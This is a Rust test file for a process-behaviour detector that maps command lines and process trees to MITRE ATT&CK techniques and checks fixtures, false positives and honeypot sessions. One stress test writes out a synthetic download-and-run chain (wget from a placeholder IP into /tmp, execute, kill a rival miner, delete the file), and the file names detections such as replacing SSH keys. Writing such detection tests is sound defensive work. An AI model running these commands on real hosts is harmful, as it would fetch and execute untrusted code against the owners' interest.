//! What holds for every behaviour: it fires and stays quiet as its fixtures say, and the registries are whole.

use std::collections::BTreeMap;
use std::path::PathBuf;

use super::cases::{Line, all, root, seen};
use super::episode::{Knowledge, Labeller};
use super::*;

#[test]
fn every_fixture_fires_or_stays_quiet_as_it_says() {
    let knowledge = Knowledge::built_in();
    let mut labeller = Labeller::new(&knowledge);
    let (mut wrong, mut missed) = (Vec::new(), Vec::new());
    let [mut fires, mut quiet, mut evasive] = [0; 3];
    for (id, cases) in all().iter().filter(|it| !it.0.starts_with("benign")) {
        assert!(knowledge.behaviours.by_name(id).is_some(), "fixtures/label/{id}.ndjson is of no behaviour");
        for case in cases {
            let (about, expected) = case.expects().unwrap_or_else(|| panic!("{id}: one expectation a case: {case:?}"));
            fires += usize::from(case.fires.is_some());
            quiet += usize::from(case.quiet.is_some());
            evasive += usize::from(case.evasive.is_some());
            let seen = seen(&knowledge, &mut labeller, case.lines());
            if seen.contains(id) != expected {
                wrong.push(format!("{id}, {about}: expected {expected}, saw {seen:?}"));
            } else if case.missed.is_some() {
                missed.push(format!("{id}: {about}"));
            }
        }
    }
    println!("{fires} fire, {quiet} stay quiet; of {} that hide, {evasive} are seen", evasive + missed.len());
    println!("known misses:\n{}", missed.join("\n"));
    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));
    assert!(missed.len() * 4 <= evasive, "{} of {} that hide are missed", missed.len(), evasive + missed.len());
}

#[test]
fn every_behaviour_has_fixtures_and_says_what_it_is() {
    let (behaviours, problems) = Behaviours::with_rules(&[]);
    assert_eq!(problems, []);
    let cases: BTreeMap<String, Vec<cases::Case>> = all().into_iter().collect();
    let kinds = |kind| behaviours.all().iter().filter(|it| it.kind == kind).count();
    assert!(behaviours.all().len() >= 100 && kinds(Kind::Tree) >= 15, "{}", behaviours.all().len());
    for behaviour in behaviours.all() {
        let id = &behaviour.id;
        let of = cases.get(id).unwrap_or_else(|| panic!("no fixtures/label/{id}.ndjson"));
        assert!(of.iter().any(|it| it.fires.is_some()), "{id} has no case that fires");
        assert!(of.iter().any(|it| it.quiet.is_some()), "{id} has no case that stays quiet");
        assert!(of.iter().any(|it| it.evasive.is_some() || it.missed.is_some()), "{id} has no case that hides");
        assert!(behaviour.title.len() > 10 && !behaviour.title.ends_with('.'), "{id}: title");
        assert!(behaviour.technique.len() >= 5 && behaviour.technique.starts_with('T'), "{id}: technique");
        assert!(id.bytes().all(|b| b.is_ascii_lowercase() || b == b'_'), "{id}: name");
    }
    let mut names: Vec<_> = behaviours.all().iter().map(|it| &it.id).collect();
    names.sort();
    names.dedup();
    assert_eq!(names.len(), behaviours.all().len(), "names are unique");
}

#[test]
fn every_rule_file_is_built_in() {
    let mut files: Vec<_> = std::fs::read_dir(root().join("knowledge/behaviours"))
        .unwrap()
        .map(|it| it.unwrap().path().file_stem().unwrap().to_string_lossy().into_owned())
        .collect();
    files.sort();
    assert_eq!(files, rules::RULES.iter().map(|(name, _)| *name).collect::<Vec<_>>());
}

/// What administrators, builds and servers do all day must not raise an alarm.
#[test]
fn benign_commands_raise_no_alarm() {
    let knowledge = Knowledge::built_in();
    let mut labeller = Labeller::new(&knowledge);
    let lines: Vec<Line> =
        all().into_iter().filter(|it| it.0.starts_with("benign")).flat_map(|it| it.1).map(|it| it.alone).collect();
    let (mut alarms, mut remarks) = (Vec::new(), BTreeMap::<String, usize>::new());
    for line in &lines {
        for id in seen(&knowledge, &mut labeller, std::slice::from_ref(line)) {
            let behaviour = knowledge.behaviours.get(knowledge.behaviours.by_name(&id).unwrap()).unwrap();
            if behaviour.severity.is_alarm() {
                alarms.push(format!("{id}: {:?} under {:?}", line.cmd_line, line.parent_file_path));
            }
            *remarks.entry(id).or_default() += 1;
        }
    }
    let distinct: std::collections::BTreeSet<_> =
        lines.iter().map(|it| (&it.file_path, &it.cmd_line, &it.parent_file_path)).collect();
    println!(
        "{} benign processes, {} distinct; {} alarms: {} a million; remarks of low or medium weight: {remarks:?}",
        lines.len(),
        distinct.len(),
        alarms.len(),
        alarms.len() * 1_000_000 / lines.len(),
    );
    assert!(alarms.is_empty(), "\n{}", alarms.join("\n"));
    assert!(distinct.len() >= 1_500, "{}", distinct.len());
}

/// Rules are asked only where the texts that they need stand: an ordinary process should ask next to none.
#[test]
fn ordinary_processes_ask_few_rules() {
    let behaviours = Behaviours::built_in();
    let lines: Vec<Line> =
        all().into_iter().filter(|it| it.0.starts_with("benign")).flat_map(|it| it.1).map(|it| it.alone).collect();
    let mut vain: BTreeMap<String, usize> = BTreeMap::new();
    for line in &lines {
        let texts = [&line.file_path, &line.cmd_line, &line.parent_file_path, &line.parent_cmd_line];
        let hints = texts.map(|it| it.as_deref().map(|it| behaviours.hints(it)));
        let [a, b, c, d] = hints.each_ref().map(Option::as_ref);
        let windows = line.file_path.as_deref().is_some_and(|it| it.contains('\\'));
        for at in behaviours.candidates([a, b, c, d, None]) {
            if let Some(name) = behaviours.rules.name_for(at, windows) {
                *vain.entry(behaviours.get(name).unwrap().id.clone()).or_default() += 1;
            }
        }
    }
    let asked: usize = vain.values().sum();
    let mut most: Vec<_> = vain.into_iter().collect();
    most.sort_by_key(|it| std::cmp::Reverse(it.1));
    println!("{asked} rules asked of {} processes; most: {:?}", lines.len(), &most[..most.len().min(60)]);
    assert!(asked < lines.len(), "{asked}");
}

/// The table of the documentation. `RINGLEADER_BLESS=1 cargo test` writes it anew.
#[test]
fn the_documented_table_is_up_to_date() {
    let behaviours = Behaviours::built_in();
    let all_cases = all();
    let mut all: Vec<_> = behaviours.all().iter().collect();
    all.sort_by(|a, b| a.id.cmp(&b.id));
    let mut text = String::from(
        "# Behaviours\n\nWhat Ringleader sees in process graphs. *single*: one process shows it, by a Sigma rule in\n\
         `knowledge/behaviours`. *tree*: it takes several, by a pattern in `crates/pipeline/src/label`. From `high` on a\n\
         behaviour is alarm grade: it makes an episode suspicious by itself. [Your own Sigma rules](rules.md) add to these;\n\
         [behaviours-measured.md](behaviours-measured.md) says how often they are right. Below the table, each has its page.\n\n\
         This page is generated from the registries; a test keeps it up to date.\n\n\
         | behaviour | seen | technique | severity | kind | maturity |\n|---|---|---|---|---|---|\n",
    );
    for it in &all {
        let link = it.technique.replace('.', "/");
        let kind = if it.kind == Kind::Tree { "tree" } else { "single" };
        let maturity = format!("{:?}", it.maturity).to_lowercase();
        text.push_str(&format!(
            "| `{}` | {} | [{}](https://attack.mitre.org/techniques/{link}/) | {} | {kind} | {maturity} |\n",
            it.id,
            it.title,
            it.technique,
            it.severity.name()
        ));
    }
    let cases: BTreeMap<String, Vec<cases::Case>> = all_cases.into_iter().collect();
    for it in &all {
        text.push_str(&page(it, &cases[&it.id]));
    }
    let path = root().join("docs/behaviours.md");
    if std::env::var_os("RINGLEADER_BLESS").is_some() {
        std::fs::write(&path, &text).unwrap();
    }
    assert_eq!(std::fs::read_to_string(&path).unwrap_or_default(), text, "run with RINGLEADER_BLESS=1");
}

/// What its rule, or the comment of its pattern, says of a behaviour; and which ways of hiding are seen or missed.
fn page(it: &Behaviour, cases: &[cases::Case]) -> String {
    use std::fmt::Write as _;
    let mut out = format!("\n## {}\n\n", it.id);
    match rules::RULES.iter().find(|rule| rule.0 == it.id) {
        Some((_, text)) => {
            let rule = &rsigma_parser::parse_sigma_yaml(text).unwrap().rules[0];
            let source = &rule.logsource;
            let place = [&source.product, &source.category, &source.service];
            let place: Vec<&str> = place.into_iter().flatten().map(String::as_str).collect();
            let _ = writeln!(out, "{}\n", rule.description.as_deref().unwrap_or_default().trim());
            let _ = writeln!(out, "- looks at: {}", place.join(", "));
            if !rule.falsepositives.is_empty() {
                let _ = writeln!(out, "- may be: {}", rule.falsepositives.join("; "));
            }
        }
        None => {
            let code = std::fs::read_to_string(root().join(format!("crates/pipeline/src/label/{}.rs", it.id))).unwrap();
            let comment = code.lines().skip_while(|it| !it.starts_with("/// ")).take_while(|it| it.starts_with("///"));
            for line in comment {
                let line = line.trim_start_matches('/').trim();
                let _ = match line.strip_prefix("# ") {
                    Some(head) => writeln!(out, "\n*{head}.*"),
                    None => writeln!(out, "{line}"),
                };
            }
            out.push('\n');
        }
    }
    if it.techniques.len() > 1 {
        let _ = writeln!(out, "- also: {}", it.techniques[1..].join(", "));
    }
    let listed = |of: fn(&cases::Case) -> Option<&String>| -> Vec<&str> {
        cases.iter().filter_map(of).map(String::as_str).collect()
    };
    let (seen, missed) = (listed(|it| it.evasive.as_ref()), listed(|it| it.missed.as_ref()));
    if !seen.is_empty() {
        let _ = writeln!(out, "- seen although it hides: {}", seen.join("; "));
    }
    if !missed.is_empty() {
        let _ = writeln!(out, "- missed: {}", missed.join("; "));
    }
    out
}

const RULE: &str = "title: Runs a tool\nid: 6f1c1c2e-0000-4000-8000-000000000000\nlogsource:\n    category: process_creation\n    product: linux\ndetection:\n    s:\n        Image|endswith: '/tool'\n    condition: s\ntags:\n    - attack.execution\n    - attack.t1059\n    - attack.t1059.004\nlevel: high\n";

#[test]
fn a_user_adds_rules_and_hears_of_those_that_do_not_work() {
    let text = |name: &str, text: &str| (name.to_owned(), text.to_owned());
    let (behaviours, problems) = Behaviours::with_rules(&[
        text("runs_a_tool", RULE),
        text("no_yaml", "title: [\n"),
        text("other_source", &RULE.replace("process_creation", "registry_set")),
        text("other_product", &RULE.replace("linux", "aws")),
        text("bad_regex", &RULE.replace("Image|endswith: '/tool'", "Image|re: '('")),
        text("writes_cron", RULE),
        text("huge", &"#".repeat(2 << 20)),
        text("retired", &RULE.replace("level: high", "status: deprecated")),
        text("two", &format!("{RULE}---\n{RULE}")),
    ]);
    let names: Vec<_> = problems.iter().map(|it| it.name.as_str()).collect();
    assert_eq!(names, ["huge", "no_yaml", "other_source", "other_product", "bad_regex", "writes_cron"], "{problems:?}");
    let view = ProcessView { file_path: Some("/opt/tool"), ..ProcessView::default() };
    let seen: Vec<_> = behaviours.of_process(&view).into_iter().map(|id| behaviours.get(id).unwrap()).collect();
    assert_eq!(seen.iter().map(|it| it.id.as_str()).collect::<Vec<_>>(), ["runs_a_tool", "two", "two_2"]);
    assert_eq!((seen[0].technique.as_str(), seen[0].severity), ("T1059.004", Severity::High));
    assert_eq!(behaviours.of_process(&ProcessView { windows: true, ..view }), []);
    assert!(behaviours.by_name("retired").is_some());
}

/// Evidence names nodes that exist, in order, whatever stands in the tree.
#[test]
fn hostile_trees_are_bounded() {
    let behaviours = Behaviours::built_in();
    let start = std::time::Instant::now();
    let mut nodes = vec![Node { cmd_line: Some("bash"), ..Node::default() }];
    let kinds = [
        "wget http://192.0.2.1/x -O /tmp/x",
        "/tmp/x",
        "pkill xmrig",
        "uname -a",
        "nproc",
        "free",
        "id",
        "w",
        "rm /tmp/x",
    ];
    nodes.extend((0..40_000).map(|index| Node {
        // A parent that comes later, or is none at all, is a damaged log and must not matter.
        parent: [Some(0), Some(index + 5), Some(usize::MAX), None][index % 4],
        cmd_line: Some(kinds[index % kinds.len()]),
        ..Node::default()
    }));
    let connects: Vec<String> =
        (0..100_000).map(|n| format!("10.{}.{}.{}:23", n >> 16, n >> 8 & 255, n & 255)).collect();
    nodes[7].connects = connects.iter().map(String::as_str).collect();
    let long = "é;`$(\"'|".repeat(100_000);
    nodes[9].cmd_line = Some(&long);
    let tree = Tree { nodes };
    let found = behaviours.of_tree(&tree);
    for id in ["downloads_then_runs", "kills_rivals", "sweeps_hosts", "deletes_itself", "system_reconnaissance"] {
        let of: Vec<_> = found.iter().filter(|it| behaviours.get(it.behaviour).unwrap().id == id).collect();
        assert!((1..=MAX_FOUND).contains(&of.len()), "{id}: {}", of.len());
        assert!(
            of.iter().all(|it| it.nodes.len() <= MAX_EVIDENCE && it.nodes.iter().all(|node| *node < tree.nodes.len()))
        );
    }
    let view = ProcessView { cmd_line: Some(&long), ..ProcessView::default() };
    assert!(behaviours.of_process(&view).len() < behaviours.all().len());
    println!("40,000 nodes in {:?}", start.elapsed());
}

proptest::proptest! {
    #[test]
    fn any_text_is_read_without_panic(line in "[ -~é\\n;|&$()`'\"<>]{0,200}", image in proptest::option::of("\\PC{0,40}")) {
        static BEHAVIOURS: std::sync::LazyLock<Behaviours> = std::sync::LazyLock::new(Behaviours::built_in);
        for windows in [false, true] {
            let view = ProcessView { file_path: image.as_deref(), cmd_line: Some(&line), windows, ..ProcessView::default() };
            BEHAVIOURS.of_process(&view);
            for command in command::commands(&line, windows) {
                proptest::prop_assert!(!command.words.is_empty());
                fetch::download(&command);
            }
        }
        let node = Node { file_path: image.as_deref(), cmd_line: Some(&line), ..Node::default() };
        BEHAVIOURS.of_tree(&Tree { nodes: vec![node.clone(), Node { parent: Some(0), ..node }] });
    }
}

/// Sessions of a real honeypot, each command a process.
#[test]
fn real_sessions_show_what_they_are_known_for() {
    let samples = std::env::var_os("RINGLEADER_SAMPLES").map_or_else(|| root().join("../shared/data"), PathBuf::from);
    let Ok(text) = std::fs::read_to_string(samples.join("cowrie/compx520_commands_mapped.txt")) else {
        println!("skipped: no samples");
        return;
    };
    let knowledge = Knowledge::built_in();
    let mut labeller = Labeller::new(&knowledge);
    let mut counts: BTreeMap<String, usize> = BTreeMap::new();
    for session in text.split("Session ID:").skip(1) {
        let commands = session.lines().skip(1).filter_map(|line| line.split('\t').next()).filter(|it| !it.is_empty());
        let shell = Line { file_path: Some("/bin/bash".to_owned()), ..Line::default() };
        let command = |it: &str| Line { parent: Some(0), cmd_line: Some(it.to_owned()), ..Line::default() };
        let lines: Vec<Line> = std::iter::once(shell).chain(commands.map(command)).collect();
        for id in seen(&knowledge, &mut labeller, &lines) {
            *counts.entry(id).or_default() += 1;
        }
    }
    println!("{counts:?}");
    for id in ["changes_password", "decodes_and_runs", "replaces_ssh_keys", "system_reconnaissance"] {
        assert!(counts.contains_key(id), "{id}: {counts:?}");
    }
}
